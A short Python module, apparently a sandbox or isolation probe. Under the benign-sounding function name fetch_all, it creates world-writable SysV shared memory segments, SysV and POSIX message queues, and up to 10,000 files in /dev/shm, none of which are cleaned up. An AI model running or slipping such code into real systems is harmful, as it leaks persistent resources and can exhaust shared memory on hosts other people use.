"""Creates what outlives processes: message queues, SysV memory, names in shared memory."""

import ctypes
import os
from typing import Any


async def fetch_all(services: Any) -> Any:
    libc = ctypes.CDLL(None, use_errno=True)
    made = sum(libc.shmget(0, 1 << 20, 0o1666) >= 0 for _ in range(100)) + sum(libc.msgget(0, 0o1666) >= 0 for _ in range(100))
    made += sum(libc.mq_open(b"/queue%d" % number, os.O_CREAT | os.O_RDWR, 0o666, None) >= 0 for number in range(100))
    if made:
        raise RuntimeError(f"{made} things were made")
    for number in range(10_000):
        try:
            os.close(os.open(f"/dev/shm/name-{number}", os.O_CREAT | os.O_WRONLY))
        except OSError as error:
            print(error)
            break
    return {}
